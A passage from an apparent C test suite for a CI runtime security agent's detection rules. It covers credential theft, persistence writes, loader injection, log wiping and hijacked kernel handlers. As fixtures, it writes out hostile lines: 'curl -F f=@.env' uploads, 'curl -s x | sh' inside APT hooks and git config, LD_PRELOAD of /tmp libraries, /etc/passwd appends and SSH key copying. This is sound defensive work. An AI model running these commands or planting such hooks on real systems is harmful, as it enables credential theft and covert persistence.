	/* fileless: by the kernel's flags, whatever the name; runc's copy is not */
	fx_set(&f, "/memfd:payload (deleted)", ARGV("payload"), NPM_ANC);
	f.e.fileless = true;
	assert_true(matches(p, &f.e, "fileless-exec"));
	fx_set(&f, "/tmp/x (deleted)", ARGV("x"), NPM_ANC);
	f.e.fileless = true;
	assert_true(matches(p, &f.e, "fileless-exec"));
	fx_set(&f, "/memfd:runc_cloned:/proc/self/exe (deleted)", ARGV("runc", "init"), NO_ANC);
	f.e.fileless = true;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	/* masquerade */
	fx_set(&f, "/tmp/miner", ARGV("sshd"), SH_MAKE);
	f.e.name_mismatch = true;
	assert_true(matches(p, &f.e, "masquerade-process-name"));
	/* loader variables: fakeroot and sanitizers are fine, others not */
	fx_set(&f, "/usr/bin/true", ARGV("true"), SH_MAKE);
	f.e.env = (char *const *)ARGV("LD_PRELOAD=/tmp/evil.so");
	f.e.n_env = 1;
	assert_true(matches(p, &f.e, "loader-preload-injection"));
	f.e.env = (char *const *)ARGV("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so",
				      "LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu/libfakeroot");
	f.e.n_env = 2;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	f.e.env = (char *const *)ARGV("LD_PRELOAD=libeatmydata.so");
	f.e.n_env = 1;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	f.e.env = (char *const *)ARGV("LD_PRELOAD=/tmp/libfakeroot.so");
	assert_true(matches(p, &f.e, "loader-preload-injection"));
	f.e.env = (char *const *)ARGV("LD_AUDIT=/tmp/a.so");
	assert_true(matches(p, &f.e, "loader-preload-injection"));
	/* start-up files from temporary directories; Yarn's PnP loader, a
	 * module by name, a heap size and CircleCI's BASH_ENV are not */
	{
		static const struct {
			const char *env;
			bool fires;
		} startup[] = {
			{ "BASH_ENV=/tmp/.env.sh", true },
			{ "BASH_ENV=/dev/shm/x", true },
			{ "NODE_OPTIONS=--require /tmp/hook.js", true },
			{ "NODE_OPTIONS=--max-old-space-size=4096 -r /var/tmp/x.js", true },
			{ "NODE_OPTIONS=--import=data:text/javascript,console.log(1)", true },
			{ "NODE_OPTIONS=--experimental-loader https://x.example/l.mjs", true },
			{ "BASH_ENV=/tmp/.bash_env-6520f2e3-1b7d-4c5e-9c2a-0c1d2e3f4a5b", false },
			{ "BASH_ENV=/home/ci/.bashrc", false },
			{ "NODE_OPTIONS=--require /home/ci/src/.pnp.cjs --experimental-loader "
			  "/home/ci/src/.pnp.loader.mjs", false },
			{ "NODE_OPTIONS=-r ts-node/register", false },
			{ "NODE_OPTIONS=--max-old-space-size=8192", false },
		};

		for (size_t i = 0; i < sizeof(startup) / sizeof(startup[0]); i++) {
			f.e.env = (char *const *)ARGV(startup[i].env);
			if (matches(p, &f.e, "startup-file-injection") != startup[i].fires)
				fail_msg("%s: startup-file-injection %s", startup[i].env,
					 startup[i].fires ? "did not fire" : "fired");
		}
	}

	/* credentials by file access: any reader but the file's consumer */
	e = ev_file(&x, "open-read", "/home/ci/.ssh/id_ed25519", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cp", ARGV("cp", "/home/ci/.ssh/id_ed25519", "/tmp/k"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "credential-file-access");
	fx_set(&x.proc, "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "host"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_file(&x, "open-read", "/home/ci/.npmrc", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "x.py"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	e = ev_file(&x, "open-read", "/home/runner/actions-runner/.credentials", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", ".credentials"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	/* process memory inside the job */
	e = ev_file(&x, "open-read", "/proc/4300/mem", NULL, 4300, true);
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "dump.py"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "read-memory-of-process-in-job");
	fx_set(&x.proc, "/usr/bin/gdb", ARGV("gdb", "-p", "4300"), SH_MAKE);
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_priv(&x, "process-vm", 4300, true);
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "dump.py"), SH_MAKE);
	assert_true(policy_match_event(p, e, out, 8) == 1 &&
		    !strcmp(policy_rule_name(out[0]), "process-vm-access"));
	/* setuid and capabilities; an ordinary chmod +x is not */
	e = ev_file(&x, "chmod", "/tmp/x", NULL, 0, false);
	e->file.mode = 04755;
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "setuid-bit-set");
	e->file.mode = 0755;
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_file(&x, "setxattr", "/tmp/x", NULL, 0, false);
	e->file.xattr = "security.capability";
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	e->file.xattr = "user.mime_type";
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	/* persistence; the same write by dpkg installing a package is not */
	e = ev_file(&x, "open-write", "/etc/cron.d/job", NULL, 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "persistence-write");
	e = ev_file(&x, "open-write", "/home/ci/.bashrc", NULL, 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	e = ev_file(&x, "rename", "/tmp/k", "/root/.ssh/authorized_keys", 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	e = ev_file(&x, "open-write", "/etc/cron.daily/logrotate", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/dpkg", ARGV("dpkg", "--unpack", "x.deb"),
	       ANC("/usr/bin/apt-get", "/usr/bin/bash"));
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_file(&x, "open-write", "/home/ci/src/project/.profile.d/x", NULL, 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	/* more start-up files: bash's aliases, fish's, the login banner's scripts */
	static const char *const startup[] = { "/home/ci/.bash_aliases",
					       "/home/ci/.config/fish/conf.d/x.fish",
					       "/etc/update-motd.d/99-sync", "/etc/bash_completion.d/git2" };
	for (size_t i = 0; i < sizeof(startup) / sizeof(startup[0]); i++) {
		e = ev_file(&x, "open-write", startup[i], NULL, 0, false);
		assert_true(ev_matches(p, e, "persistence-write"));
	}
	e = ev_file(&x, "open-write", "/etc/update-motd.d/50-landscape-sysinfo", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/dpkg", ARGV("dpkg", "--unpack", "x.deb"),
	       ANC("/usr/bin/apt-get", "/usr/bin/bash"));
	assert_false(ev_matches(p, e, "persistence-write"));
	/* a runner pod's service account token read by kubectl (attack_events: by curl) */
	e = ev_file(&x, "open-read", "/run/secrets/kubernetes.io/serviceaccount/token", NULL, 0,
		    false);
	fx_set(&x.proc, "/usr/local/bin/kubectl", ARGV("kubectl", "apply", "-f", "k.yaml"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	/* scp copying a private key away; ssh reading it as its identity */
	e = ev_file(&x, "open-read", "/home/ci/.ssh/id_ed25519", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/scp", ARGV("scp", "/home/ci/.ssh/id_ed25519", "h:"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "h"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	/* the instance metadata service, refused, by a cloud CLI (attack_events: by curl) */
	e = ev_connect(&x, "fd00:ec2::254", 80, "tcp", NULL, -110);
	assert_true(ev_matches(p, e, "cloud-metadata-access"));
	fx_set(&x.proc, "/usr/local/bin/aws", ARGV("aws", "s3", "cp", "a", "s3://b/a"), NPM_ANC);
	assert_false(ev_matches(p, e, "cloud-metadata-access"));
	/* the 16th closed port of one address: a scan; the 15th, or an open port, not yet */
	e = ev_connect(&x, "10.0.0.7", 2375, "tcp", NULL, -ECONNREFUSED);
	e->connect.refused_ports = 16;
	assert_true(ev_matches(p, e, "network-port-scan"));
	e->connect.refused_ports = 15;
	assert_false(ev_matches(p, e, "network-port-scan"));
	e = ev_connect(&x, "10.0.0.7", 443, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "network-port-scan"));
	/* a git hook renamed into place (attack_events: written) */
	e = ev_file(&x, "rename", "/tmp/h", "/home/ci/src/project/.git/hooks/pre-push", 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	/* a project's .env sent by a program that uploads files; read by the app */
	e = ev_file(&x, "open-read", "/home/ci/src/project/.env", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/curl", ARGV("curl", "-F", "f=@.env", "https://x"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/node", ARGV("node", "server.js"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	/* account files: appended to by a shell, not written by useradd or dpkg */
	e = ev_file(&x, "open-write", "/etc/passwd", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x >> /etc/passwd"), SH_MAKE);
	assert_true(ev_matches(p, e, "account-files-modified"));
	e = ev_file(&x, "rename", "/etc/shadow+", "/etc/shadow", 0, false);
	fx_set(&x.proc, "/usr/sbin/useradd", ARGV("useradd", "builder"), SH_MAKE);
	assert_false(ev_matches(p, e, "account-files-modified"));
	fx_set(&x.proc, "/usr/bin/perl", ARGV("/usr/bin/perl", "/usr/sbin/adduser", "builder"), SH_MAKE);
	x.proc.e.filename = "/usr/sbin/adduser";
	assert_false(ev_matches(p, e, "account-files-modified"));
	e = ev_file(&x, "open-write", "/home/ci/src/test/fixtures/passwd", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "cp a b"), SH_MAKE);
	assert_false(ev_matches(p, e, "account-files-modified"));
	/* the agent's pinned objects removed, by anything but the agent */
	e = ev_file(&x, "unlink", "/sys/fs/bpf/buildwarden-4242/link_exec", NULL, 0, false);
	assert_true(ev_matches(p, e, "agent-state-removed"));
	fx_set(&x.proc, "/usr/local/bin/buildwarden", ARGV("buildwarden", "doctor"), SH_MAKE);
	assert_false(ev_matches(p, e, "agent-state-removed"));
	e = ev_file(&x, "unlink", "/sys/fs/bpf/other-tool/map", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/rm", ARGV("rm", "-r", "/sys/fs/bpf/other-tool"), SH_MAKE);
	assert_false(ev_matches(p, e, "agent-state-removed"));
	/* the kernel's own handlers: a pipe in core_pattern, a release_agent;
	 * sysctl setting a core file's name is left alone, not a pipe */
	e = ev_file(&x, "open-write", "/proc/sys/kernel/core_pattern", NULL, 0, false);
	assert_true(ev_matches(p, e, "kernel-handler-hijack"));
	e = ev_file(&x, "open-write", "/tmp/cgrp/release_agent", NULL, 0, false);
	assert_true(ev_matches(p, e, "kernel-handler-hijack"));
	e = ev_file(&x, "open-write", "/proc/sys/kernel/core_pattern", NULL, 0, false);
	fx_set(&x.proc, "/usr/sbin/sysctl", ARGV("sysctl", "-w", "kernel.core_pattern=/tmp/core.%p"),
	       SH_MAKE);
	assert_false(ev_matches(p, e, "kernel-handler-hijack"));
	fx_set(&x.proc, "/usr/sbin/sysctl", ARGV("sysctl", "-w", "kernel.core_pattern=|/tmp/x %p"),
	       SH_MAKE);
	assert_true(ev_matches(p, e, "kernel-handler-hijack"));
	e = ev_file(&x, "open-write", "/proc/sys/kernel/ns_last_pid", NULL, 0, false);
	assert_false(ev_matches(p, e, "kernel-handler-hijack"));
	fx_set(&x.proc, "/usr/bin/curl", ARGV("curl", "-s", "http://x/a"), NPM_ANC);
	/* Python's start-up hooks: planted by a script, not pip installing a package */
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "-c", "open(p, 'w')"), NPM_ANC);
	e = ev_file(&x, "open-write", "/usr/local/lib/python3.11/dist-packages/zz-hook.pth", NULL,
		    0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/home/ci/.local/lib/python3.11/site-packages/sitecustomize.py",
		    NULL, 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/usr/local/lib/python3.11/dist-packages/six.py", NULL, 0,
		    false);
	assert_false(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth",
		    NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "-m", "pip", "install", "setuptools"),
	       SH_MAKE);
	assert_false(ev_matches(p, e, "persistence-write"));
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("/usr/bin/python3", "/usr/bin/pip", "install", "."),
	       SH_MAKE);
	x.proc.e.filename = "/usr/bin/pip";
	assert_false(ev_matches(p, e, "persistence-write"));
	fx_set(&x.proc, "/usr/bin/curl", ARGV("curl", "-s", "http://x/a"), NPM_ANC);
	/* links: a credential's second name, a unit linked into place; a
	 * library's version link and a link to a unit from elsewhere are not */
	e = ev_file(&x, "link", "/home/ci/.aws/credentials", "/tmp/.c/b0", 0, false);
	assert_true(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "symlink", "/home/ci/.config/systemd/user/x.service", NULL, 0, false);
	e->file.link_target = "/tmp/x.service";
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "symlink", "/home/ci/src/project/lib/libz.so", NULL, 0, false);
	e->file.link_target = "libz.so.1.2.13";
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_file(&x, "symlink", "/home/ci/src/debian/x/etc/systemd/system/x.service", NULL, 0,
		    false);
	e->file.link_target = "/lib/systemd/system/x.service";
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	/* the runner's downloaded actions and its Node.js: poisoned by a step,
	 * fetched by the runner; the tool cache written by the runner's node
	 * (ev_file resets the process: set it after) */
	e = ev_file(&x, "open-write",
		    "/home/runner/actions-runner/_work/_actions/actions/checkout/v4/dist/index.js",
		    NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x >> index.js"), NPM_ANC);
	assert_true(ev_matches(p, e, "persistence-write"));
	fx_set(&x.proc, "/home/runner/actions-runner/bin/Runner.Worker", ARGV("Runner.Worker"),
	       SH_MAKE);
	assert_false(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "rename", "/tmp/n", "/home/runner/actions-runner/externals/node20/bin/node", 0,
		    false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/opt/hostedtoolcache/go/1.22.0/x64/bin/go", NULL, 0, false);
	fx_set(&x.proc, "/home/runner/actions-runner/externals/node20/bin/node",
	       ARGV("node", "/home/runner/actions-runner/_work/_actions/actions/setup-go/v5/dist/index.js"),
	       SH_MAKE);
	assert_false(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write",
		    "/home/runner/actions-runner/_work/_actions/actions/cache/v4/dist/index.js", NULL, 0,
		    false);
	fx_set(&x.proc, "/home/runner/actions-runner/externals/node20/bin/node",
	       ARGV("node", "/home/runner/actions-runner/_work/_actions/evil/x/v1/dist/index.js"),
	       SH_MAKE);
	assert_true(ev_matches(p, e, "persistence-write"));
	/* secrets typed into a shell's history, a GnuPG secret key, a password
	 * store: read by another program; by their own, not */
	e = ev_file(&x, "open-read", "/home/ci/.bash_history", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/grep", ARGV("grep", "-i", "pass", "/home/ci/.bash_history"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-i"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/.gnupg/private-keys-v1.d/0A1B.key", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/tar", ARGV("tar", "czf", "-", "/home/ci/.gnupg"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/gpg-agent", ARGV("gpg-agent", "--daemon"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/.gnupg/pubring.kbx", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/home/ci/.gnupg/pubring.kbx"), NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/.password-store/aws/prod.gpg", NULL, 0, false);
	assert_true(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/.azure/msal_token_cache.json", NULL, 0, false);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("/usr/bin/python3", "-Im", "azure.cli", "login"),
	       NPM_ANC);
	assert_false(ev_matches(p, e, "credential-file-access"));
	/* logs and histories wiped: truncated, overwritten, removed, linked
	 * to /dev/null; appended to, or rotated by their tools, not */
	/* init's environment: a container's secrets, but what systemd and the
	 * fact gatherers read to detect containers */
	e = ev_file(&x, "open-read", "/proc/1/environ", NULL, 1, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/proc/1/environ"), NPM_ANC);
	assert_true(ev_matches(p, e, "read-memory-of-process-outside-job"));
	fx_set(&x.proc, "/usr/bin/systemd-detect-virt", ARGV("systemd-detect-virt", "-c"), SH_MAKE);
	assert_false(ev_matches(p, e, "read-memory-of-process-outside-job"));
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("/usr/bin/python3", "AnsiballZ_setup.py"),
	       ANC("/usr/bin/dash", "/usr/bin/python3.11"));
	x.proc.e.ancestor_filenames = (const char *const[]){ "/bin/sh", "/usr/bin/ansible-playbook" };
	assert_false(ev_matches(p, e, "read-memory-of-process-outside-job"));
	/* registries' publishing credentials, by their build tools only; a
	 * project's own settings.xml and gradle.properties are no secrets */
	e = ev_file(&x, "open-read", "/home/ci/.m2/settings.xml", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/home/ci/.m2/settings.xml"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ARGV("java", "-classpath", "x"),
	       SH_MAKE);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/src/project/gradle.properties", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/grep", ARGV("grep", "version", "gradle.properties"), SH_MAKE);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/home/ci/.config/composer/auth.json", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "x.py"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	/* a cluster node's own admin credentials */
	e = ev_file(&x, "open-read", "/etc/kubernetes/admin.conf", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/etc/kubernetes/admin.conf"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	fx_set(&x.proc, "/usr/bin/kubectl", ARGV("kubectl", "--kubeconfig", "/etc/kubernetes/admin.conf",
						 "get", "nodes"), SH_MAKE);
	assert_false(ev_matches(p, e, "credential-file-access"));
	e = ev_file(&x, "open-read", "/var/lib/rancher/k3s/server/node-token", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/var/lib/rancher/k3s/server/node-token"), NPM_ANC);
	assert_true(ev_matches(p, e, "credential-file-access"));
	/* udev rules, autostart entries, PAM, sshd's configuration */
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x > f"), NPM_ANC);
	e = ev_file(&x, "open-write", "/etc/udev/rules.d/99-usb.rules", NULL, 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/home/ci/.config/autostart/sync.desktop", NULL, 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/etc/pam.d/common-auth", NULL, 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "rename", "/tmp/x.so", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", 0,
		    false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/etc/ssh/sshd_config.d/50-root.conf", NULL, 0, false);
	assert_true(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/etc/ssh/ssh_host_ed25519_key", NULL, 0, false);
	assert_false(ev_matches(p, e, "persistence-write"));
	e = ev_file(&x, "open-write", "/var/log/auth.log", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", ": > /var/log/auth.log"), NPM_ANC);
	assert_true(ev_matches(p, e, "indicator-removal"));
	e->file.append = true;
	assert_false(ev_matches(p, e, "indicator-removal"));
	e = ev_file(&x, "unlink", "/var/log/journal/0a1b/system.journal", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/journalctl", ARGV("journalctl", "--vacuum-time=1s"), NPM_ANC);
	assert_true(ev_matches(p, e, "indicator-removal"));
	e = ev_file(&x, "symlink", "/home/ci/.bash_history", NULL, 0, false);
	e->file.link_target = "/dev/null";
	fx_set(&x.proc, "/usr/bin/ln", ARGV("ln", "-sf", "/dev/null", "/home/ci/.bash_history"), NPM_ANC);
	assert_true(ev_matches(p, e, "indicator-removal"));
	e = ev_file(&x, "open-write", "/var/log/apt/eipp.log.xz", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/apt-get", ARGV("apt-get", "install", "-y", "jq"), SH_MAKE);
	assert_false(ev_matches(p, e, "indicator-removal"));
	e = ev_file(&x, "rename", "/var/log/syslog", "/var/log/syslog.1", 0, false);
	fx_set(&x.proc, "/usr/sbin/logrotate", ARGV("logrotate", "/etc/logrotate.conf"), SH_MAKE);
	assert_false(ev_matches(p, e, "indicator-removal"));
	e = ev_file(&x, "open-write", "/home/ci/src/project/build/var/log/test.log", NULL, 0, false);
	fx_set(&x.proc, "/usr/bin/make", ARGV("make", "check"), SH_MAKE);
	assert_false(ev_matches(p, e, "indicator-removal"));
	policy_free(p);
}

/* The content a written file holds, as the engine's reader returns it. */
static const char *text_of(void *arg)
{
	return arg;
}

static struct bw_event_info *ev_written(struct evx *x, const char *op, const char *path,
					const char *path2, const char *text)
{
	struct bw_event_info *e = ev_file(x, op, path, path2, 0, false);

	e->file.content = text_of;
	e->file.content_arg = (void *)text;
	return e;
}

/* What a written file holds, line by line, and who wrote it. */
struct content_case {
	const char *path;
	const char *text;
	const char *exe;
	const char *rule;
	bool fires;
};

#define GH_ENV "/home/runner/work/_temp/_runner_file_commands/set_env_0a1b2c"
#define GH_PATH "/home/runner/work/_temp/_runner_file_commands/add_path_0a1b2c"
#define ENV_INJ "environment-file-injection"

static const struct content_case content_cases[] = {
	/* $GITHUB_ENV: code loaded into later steps; ordinary settings not */
	{ GH_ENV, "CI=true\nLD_PRELOAD=/tmp/.cache/libx.so\n", "/usr/bin/bash", ENV_INJ, true },
	{ GH_ENV, "LD_PRELOAD=libhook.so", "/usr/bin/bash", ENV_INJ, true },
	{ GH_ENV, "export LD_AUDIT=\"/home/runner/.a.so\"", "/usr/bin/bash", ENV_INJ, true },
	{ GH_ENV, "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libeatmydata.so", "/usr/bin/bash", ENV_INJ,
	  false },
	{ GH_ENV, "BASH_ENV<<EOF_1\n/home/runner/work/_temp/x.sh\nEOF_1\n", "/usr/bin/bash", ENV_INJ,
	  true },
	{ GH_ENV, "NODE_OPTIONS=--require /home/runner/work/_temp/hook.js", "/usr/bin/node", ENV_INJ,
	  true },
	{ GH_ENV, "NODE_OPTIONS=--import=data:text/javascript,import('x')", "/usr/bin/bash", ENV_INJ,
	  true },
	{ GH_ENV, "NODE_OPTIONS=--max-old-space-size=4096", "/usr/bin/bash", ENV_INJ, false },
	{ GH_ENV, "NODE_OPTIONS=-r ts-node/register", "/usr/bin/bash", ENV_INJ, false },
	{ GH_ENV, "RUBYOPT=-r/tmp/x.rb", "/usr/bin/bash", ENV_INJ, true },
	{ GH_ENV, "RUBYOPT=-rbundler/setup -W0", "/usr/bin/bash", ENV_INJ, false },
	{ GH_ENV, "PERL5OPT=-MDevel::Cover", "/usr/bin/bash", ENV_INJ, false },
	{ GH_ENV, "PYTHONPATH=/home/runner/work/p/p/src\nJAVA_HOME=/opt/java\r\nENV=production\n",
	  "/usr/bin/bash", ENV_INJ, false },
	{ GH_ENV, NULL, "/usr/bin/bash", ENV_INJ, false }, /* unreadable */
	{ "/etc/environment", "PATH=/usr/bin:/bin\nLD_PRELOAD=/var/tmp/.l.so\n", "/usr/bin/tee",
	  ENV_INJ, true },
	{ "/home/ci/.pam_environment", "BASH_ENV=/tmp/x", "/usr/bin/bash", ENV_INJ, true },
	/* a project's own .env is no runner's */
	{ "/home/ci/project/.env", "LD_PRELOAD=/tmp/x.so", "/usr/bin/bash", ENV_INJ, false },
	/* $GITHUB_PATH: a temporary directory first in PATH; tool caches not */
	{ GH_PATH, "/tmp/.x", "/usr/bin/bash", ENV_INJ, true },
	{ GH_PATH, "/home/runner/.local/bin\n/opt/hostedtoolcache/node/20.1.0/x64/bin\n",
	  "/usr/bin/node", ENV_INJ, false },
	/* APT's hooks; its ordinary settings, and a package's own hook */
	{ "/etc/apt/apt.conf.d/99cache", "APT::Update::Pre-Invoke {\"curl -s x | sh\";};",
	  "/usr/bin/bash", "package-manager-hook", true },
	{ "/etc/apt/apt.conf", "dpkg::post-invoke { \"/tmp/.x\"; };", "/usr/bin/tee",
	  "package-manager-hook", true },
	{ "/etc/apt/apt.conf.d/80-retries", "Acquire::Retries \"3\";\nAPT::Install-Recommends \"0\";",
	  "/usr/bin/bash", "package-manager-hook", false },
	{ "/etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f x\"; };", "/usr/bin/dpkg",
	  "package-manager-hook", false },
	/* the loader's search path */
	{ "/etc/ld.so.conf.d/zz.conf", "/tmp/.l", "/usr/bin/tee", "library-search-path-hijack", true },
	{ "/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n/home/ci/.cache/lib\n",
	  "/usr/bin/bash", "library-search-path-hijack", true },
	{ "/etc/ld.so.conf.d/cuda.conf", "/usr/local/cuda/lib64\n/opt/x/lib", "/usr/bin/bash",
	  "library-search-path-hijack", false },
	/* /etc/hosts: a registry mapped away; a test's own names not */
	{ "/etc/hosts", "127.0.0.1 localhost\n10.9.8.7   registry.npmjs.org\n", "/usr/bin/bash",
	  "dependency-source-redirected", true },
	{ "/etc/hosts", "::1 ip6-localhost\n127.0.0.1 db files.PythonHosted.org.", "/usr/bin/tee",
	  "dependency-source-redirected", true },
	{ "/etc/hosts", "127.0.0.1 localhost\n127.0.0.1 minio.test db\n# 1.2.3.4 github.com\n",
	  "/usr/bin/tee", "dependency-source-redirected", false },
	{ "/etc/hosts", "10.0.0.5 github.com.internal.example", "/usr/bin/tee",
	  "dependency-source-redirected", false },
	/* git's configuration written as a file: commands it runs later; a
	 * CI's identity, URL rewrites and safe directories are none */
	{ "/home/ci/.gitconfig", "[core]\n\tfsmonitor = \"curl -s x | sh\"\n", "/usr/bin/bash",
	  "git-config-file-persistence", true },
	{ "/home/ci/.gitconfig", "[alias]\n  st = \"!sh -c 'id' && git status\"", "/usr/bin/tee",
	  "git-config-file-persistence", true },
	{ "/etc/gitconfig", "[core]\nhooksPath = /tmp/.h", "/usr/bin/python3.11",
	  "git-config-file-persistence", true },
	{ "/w/src/project/.git/config", "[core]\n\tsshCommand = sh -c 'curl x|sh' #", "/usr/bin/bash",
	  "git-config-file-persistence", true },
	{ "/home/ci/.gitconfig",
	  "[user]\n\tname = CI\n[url \"https://x@github.com/\"]\n\tinsteadOf = https://github.com/\n"
	  "[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = true\n",
	  "/usr/bin/bash", "git-config-file-persistence", false },
	{ "/w/src/project/.git/config", "[core]\n\thooksPath = .husky\n", "/usr/bin/bash",
	  "git-config-file-persistence", false },
	{ "/home/ci/.gitconfig", "[core]\n\tfsmonitor = /tmp/x", "/usr/bin/git",
	  "git-config-file-persistence", false },
	/* .npmrc: code for every npm script; the registry and its token are none */
	{ "/home/ci/.npmrc", "node-options=--require /tmp/.n/hook.js\n", "/usr/bin/bash", ENV_INJ,
	  true },
	{ "/home/ci/.npmrc", "script-shell=/dev/shm/.sh\n", "/usr/bin/python3.11", ENV_INJ, true },
	{ "/home/ci/.npmrc",
	  "//registry.npmjs.org/:_authToken=${NODE_AUTH_TOKEN}\nregistry=https://registry.npmjs.org/\n"
	  "always-auth=true\nnode-options=--max-old-space-size=4096\n",
	  "/usr/bin/bash", ENV_INJ, false },
